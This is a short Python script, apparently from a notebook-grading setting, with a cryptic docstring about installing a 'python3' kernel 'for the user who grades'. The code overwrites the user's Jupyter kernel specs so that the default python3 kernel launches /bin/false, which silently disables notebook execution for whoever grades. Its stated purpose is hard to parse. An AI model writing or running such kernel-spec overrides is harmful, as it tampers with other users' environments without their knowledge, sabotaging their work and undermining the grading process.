"""Installs a kernel of the name python3 for the user who grades.

Stock: the next student's notebook starts it. Ours: what a submission writes is gone with it.
"""

STOCK = "harms"
import json
import os

for data in (os.environ.get("JUPYTER_DATA_DIR", ""), os.path.expanduser("~/.local/share/jupyter")):
    if data:
        os.makedirs(f"{data}/kernels/python3", exist_ok=True)
        with open(f"{data}/kernels/python3/kernel.json", "w") as file:
            json.dump({"argv": ["/bin/false", "{connection_file}"], "display_name": "Python 3", "language": "python"}, file)
